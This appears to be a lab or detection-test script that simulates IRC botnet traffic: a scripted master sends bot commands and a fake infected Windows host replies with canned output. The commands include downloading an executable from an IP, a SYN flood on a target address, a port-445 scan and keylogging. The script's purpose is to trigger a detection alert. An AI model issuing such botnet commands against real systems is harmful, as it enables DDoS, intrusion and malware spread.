# what: a PC sits in an IRC channel under a made-up bot name and answers commands (twin: irc_chat)
# real: ngircd; bot and master are scripted lines over ncat
# packages: ngircd ncat
irc_server
host EIGYO-NOTE windows
(
	printf 'NICK master\r\nUSER m 0 * :m\r\n'; sleep 1; printf 'JOIN #rbot\r\n'; sleep 2
	for c in '.login himitsu' '.sysinfo' '.http.speedtest' '.download http://194.26.135.12/up.exe 1' '.ddos.syn 93.184.216.40 80 60' '.scan.start 445 100' '.keylog off'; do
		printf 'PRIVMSG #rbot :%s\r\n' "$c"; sleep 0.7
	done
) | on net ncat 37.59.46.220 6667 >>$W/log/master 2>&1 &
sleep 1
(
	printf 'NICK JP|471\r\nUSER xqzvt 0 * :JP|471\r\n'; sleep 1; printf 'JOIN #rbot k3y\r\n'; sleep 2
	for c in '[MAIN]: Password accepted.' '[SYSINFO]: CPU: 2400MHz. RAM: 8GB. OS: Windows 10 [10.0, Build 19045]. Uptime: 3d 4h.' '[SPEED]: 40 Mbit' '[DOWNLOAD]: Downloading http://194.26.135.12/up.exe...' '[DDoS]: SYN flooding 93.184.216.40:80 for 60 seconds.' '[SCAN]: Random Port Scan started on x.x.x.x:445 with 100 threads.'; do
		printf 'PRIVMSG #rbot :%s\r\n' "$c"; sleep 0.7
	done
) | on EIGYO-NOTE ncat irc.sekai.example 6667 >>$W/log/bot 2>&1
grep -q 'JOIN' $W/log/bot || fail "the bot did not join"
STRETCH=(--factor 30 --gap 400)
alert irc_bot please_look EIGYO-NOTE
